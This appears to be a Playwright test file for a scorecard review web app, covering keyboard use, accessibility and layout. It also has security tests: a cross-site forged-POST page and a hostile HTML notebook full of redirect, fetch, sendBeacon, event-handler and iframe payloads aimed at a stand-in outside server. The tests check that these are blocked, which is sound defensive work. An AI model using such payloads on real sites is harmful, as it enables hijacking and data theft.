"""The app in which people decide, in a real browser: keys, accessibility, phones, inert texts."""

from __future__ import annotations

import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from grader.review.app import make_app
from grader.review.board import Board
from grader.review.guard import Origin
from grader.review.sessions import Person, Sessions

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
from review_board import fill

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, Page

uvicorn = pytest.importorskip("uvicorn")

ROOT = Path(__file__).resolve().parents[2]
WIDE, PHONE = (1280, 900), (390, 844)


class Served:
    """An app on a port of this machine."""

    def __init__(self, folder: Path) -> None:
        import socket  # noqa: PLC0415 - beside its one use

        self.board = Board(fill(folder), None)
        self._listener = socket.socket()
        self._listener.bind(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self.sessions = Sessions(self.board, "rosa")
        app = make_app(self.board, origin=Origin(self.url), sessions=self.sessions, root=ROOT)
        config = uvicorn.Config(app, log_level="error", lifespan="off", access_log=False)
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(
            target=self.server.run, kwargs={"sockets": [self._listener]}, daemon=True
        )
        self.thread.start()
        while not self.server.started:
            time.sleep(0.01)

    def link(self) -> str:
        return f"{self.url}/enter/{self.sessions.link(Person('rosa', organiser=True))}"

    def close(self) -> None:
        self.server.should_exit = True
        self.thread.join()
        self._listener.close()
        self.board.close()


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    made = Served(tmp_path)
    yield made
    made.close()


@pytest.fixture
def visit(browser: Browser, served: Served) -> Iterator[Callable[..., Page]]:
    contexts = []

    def opened(size: tuple[int, int] = WIDE, **options: Any) -> Page:
        context = browser.new_context(
            viewport={"width": size[0], "height": size[1]}, reduced_motion="reduce", **options
        )
        contexts.append(context)
        page = context.new_page()
        page.goto(served.link())
        page.wait_for_url(f"{served.url}/")
        return page

    yield opened
    for context in contexts:
        context.close()


def addresses(served: Served) -> list[str]:
    """One of each kind of page."""
    case, other = list(served.board.cases)[:2]
    named = served.board.names.case("scorecard/work_simulation", "annabelle.leitner")
    parts = ("", "/checks", "/check/3", "/source", "/notebook", "/feedback", "/history")
    return [
        "/", "/table", f"/compare?case={case}&case={other}", "/progress", "/agreement", "/events",
        "/interviews", f"/interview/work_simulation/{named}", "/nothing",
        *(f"/case/{case}{part}" for part in parts),
    ]  # fmt: skip


def conflict(page: Page, served: Served) -> None:
    """The page of a scorecard that was filled in in another window too."""
    named = served.board.names.case("scorecard/work_simulation", "annabelle.leitner")
    other = page.context.new_page()
    for window in (page, other):
        window.goto(f"{served.url}/interview/work_simulation/{named}")
    for window, level in ((other, "3"), (page, "1")):
        for part in window.locator(".part").all():
            part.locator(f"input[value='{level}']").check()
        go(window, lambda window=window: window.get_by_role("button", name="Store").click())  # type: ignore[misc]
    other.close()


def go(page: Page, press: Callable[[], None]) -> None:
    with page.expect_navigation():
        press()


def test_everything_is_decided_without_the_mouse(
    served: Served, visit: Callable[..., Page]
) -> None:
    page = visit()
    go(page, lambda: page.keyboard.press("n"))
    for number in range(len(served.board.cases)):
        if number % 2:
            page.keyboard.press("1")
            page.keyboard.press("r")
            page.keyboard.type("Nothing was measured.")
            go(page, lambda: page.keyboard.press("Control+Enter"))
        else:
            go(page, lambda: page.keyboard.press("c"))
    assert page.url == f"{served.url}/?done=all"
    assert [e.level for e in served.board.log.events()] == [3, 1, 3, 1, 3]


def test_a_missing_reason_is_said_beside_its_form_and_has_the_focus(
    served: Served, visit: Callable[..., Page]
) -> None:
    page = visit()
    go(page, lambda: page.keyboard.press("n"))
    page.keyboard.press("2")
    go(page, lambda: page.keyboard.press("Enter"))
    assert "a reason is missing" in page.locator("[role=alert]").inner_text()
    assert page.evaluate("document.activeElement.name") == "reason"
    assert served.board.log.last == 0


def test_the_pages_work_without_the_script(served: Served, visit: Callable[..., Page]) -> None:
    page = visit(java_script_enabled=False)
    page.get_by_role("link", name="Begin").click()
    part = page.locator("#cat-problem_solving")
    part.get_by_label("1 Poor").check()
    part.get_by_label("Reason").fill("Nothing was measured.")
    part.get_by_role("button", name="Store the level").click()
    assert [e.level for e in served.board.log.events()] == [1]


@pytest.mark.parametrize(
    ("scheme", "size"), [("light", WIDE), ("dark", PHONE)], ids=["light, wide", "dark, phone"]
)
def test_axe_finds_nothing(
    served: Served, visit: Callable[..., Page], axe: str, scheme: str, size: tuple[int, int]
) -> None:
    page = visit(size, color_scheme=scheme, bypass_csp=True)
    found = {}
    for address in addresses(served):
        page.goto(served.url + address)
        page.evaluate(axe)
        result = page.evaluate("() => axe.run(document)")
        found[address] = [
            (rule["id"], node["html"]) for rule in result["violations"] for node in rule["nodes"]
        ]
    conflict(page, served)
    page.evaluate(axe)
    assert page.evaluate("() => axe.run(document).then(result => result.violations.length)") == 0
    assert {address: rules for address, rules in found.items() if rules} == {}


def test_both_versions_of_a_scorecard_are_chosen_between_in_the_browser(
    served: Served, visit: Callable[..., Page]
) -> None:
    page = visit(PHONE)
    conflict(page, served)
    assert "Nothing of yours is stored yet" in page.get_by_role("alert").inner_text()
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE[0]
    sections = page.locator("main section").all()
    for number, section in enumerate(sections):
        section.get_by_label("Store mine" if number == 0 else "Leave it so").check()
    go(page, lambda: page.get_by_role("button", name="Store", exact=True).click())
    levels = [e.level for e in served.board.log.events()]
    assert levels == [*[3] * len(sections), 1]


def test_no_page_is_wider_than_a_phone(served: Served, visit: Callable[..., Page]) -> None:
    page = visit(PHONE)
    widths = {}
    for address in addresses(served):
        page.goto(served.url + address)
        widths[address] = page.evaluate("document.documentElement.scrollWidth")
    assert {a: w for a, w in widths.items() if w > PHONE[0]} == {}


def test_pages_break_no_rule_of_their_own_policy(
    served: Served, visit: Callable[..., Page]
) -> None:
    page = visit()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    for address in addresses(served):
        if address != "/nothing":
            page.goto(served.url + address)
    assert said == []


def test_another_origin_can_neither_read_nor_post(
    served: Served, visit: Callable[..., Page], tmp_path: Path
) -> None:
    page = visit()
    case = next(iter(served.board.cases.values()))
    evil = tmp_path / "evil.html"
    evil.write_text(
        f"<form method=post action='{served.url}/case/{case.alias}/confirm'>"
        f"<input name=seen value=0><input name=run value={case.run}>"
        f"<input name=scoring value={case.scoring}></form>"
        f"<iframe src='{served.url}/'></iframe>"
    )
    other = page.context.new_page()
    other.goto(evil.as_uri())
    with other.expect_navigation():
        other.evaluate("document.forms[0].submit()")
    assert "not sent by a page of this server" in other.content()
    assert served.board.log.last == 0


def test_a_link_on_a_page_of_another_site_lets_its_reader_in(
    served: Served, browser: Browser
) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.route("http://chat.example/", lambda route: route.fulfill(
        content_type="text/html", body=f'<a href="{served.link()}">Review with me</a>'
    ))  # fmt: skip
    page.goto("http://chat.example/")
    page.get_by_role("link").click()
    page.wait_for_url(f"{served.url}/")
    assert page.get_by_role("heading", level=1).inner_text() == "Queue"
    context.close()


HOSTILE = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=EVIL/refresh"><base href="EVIL/">
<link rel="stylesheet" href="EVIL/css"><link rel="prefetch" href="EVIL/prefetch">
<link rel="preload" as="image" href="EVIL/preload"><link rel="preconnect" href="EVIL">
<style>@import url(EVIL/import); body { background: url(EVIL/bg); } p { font-family: x; }
@font-face { font-family: x; src: url(EVIL/font); }</style></head>
<body><main><p>The hostile notebook</p>
<script>top.document.title = "owned"; top.location = "EVIL/script"; localStorage.x = 1;
fetch("EVIL/fetch", {method: "POST"}); navigator.sendBeacon("EVIL/beacon");</script>
<img src="EVIL/img" onerror="top.location='EVIL/event'">
<svg onload="top.location='EVIL/svg'"></svg><iframe src="EVIL/frame"></iframe>
<iframe srcdoc="<script>top.location='EVIL/inner'</script>"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed">
<video src="EVIL/video" autoplay></video><audio src="EVIL/audio"></audio>
<form action="EVIL/form" target="_top"><button id="go">Go</button></form>
<a id="top" href="EVIL/top" target="_top">top</a>
<a id="new" href="EVIL/new" target="_blank">new</a>
<a id="ping" href="#x" ping="EVIL/ping">ping</a></main></body></html>"""


class Elsewhere:
    """A server of somebody else's that notes what it is asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 - the name that the server calls

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def elsewhere(monkeypatch: pytest.MonkeyPatch) -> Iterator[Elsewhere]:
    """It is named all over a notebook that got past every check of its tags."""
    made = Elsewhere()
    document = HOSTILE.replace("EVIL", made.url)
    monkeypatch.setattr("grader.review.notebooks.frame_of", lambda _stored, _mask: document)
    yield made
    made.server.shutdown()
    made.server.server_close()


def test_a_hostile_document_in_the_frame_runs_nothing_loads_nothing_and_stays_in_it(
    served: Served, visit: Callable[..., Page], elsewhere: Elsewhere
) -> None:
    page = visit()
    address = f"{served.url}/case/{next(iter(served.board.cases))}/notebook"
    page.goto(address)
    frame = page.frame_locator("iframe.ran")
    for name in ("#go", "#top", "#new", "#ping"):
        frame.locator(name).click(no_wait_after=True, timeout=5000)
    page.wait_for_timeout(700)
    assert frame.locator("p").inner_text() == "The hostile notebook"
    assert elsewhere.asked == []
    assert (page.url, len(page.context.pages)) == (address, 1)
    assert "owned" not in page.title()
    assert served.board.log.last == 0


def test_a_hostile_document_runs_and_loads_nothing_in_a_window_of_its_own_either(
    served: Served, visit: Callable[..., Page], elsewhere: Elsewhere
) -> None:
    page = visit()
    page.goto(f"{served.url}/case/{next(iter(served.board.cases))}/notebook/frame")
    page.wait_for_timeout(700)
    assert page.title() == ""
    assert set(elsewhere.asked) <= {"/refresh"}  # without a page around it nobody forbids that


def test_the_notebook_is_read_in_its_frame(served: Served, visit: Callable[..., Page]) -> None:
    page = visit()
    page.goto(f"{served.url}/case/{next(iter(served.board.cases))}/notebook")
    frame = page.frame_locator("iframe.ran")
    assert frame.locator("h1").inner_text() == "[name]"
    assert frame.locator("img").evaluate("picture => picture.naturalWidth") == 1
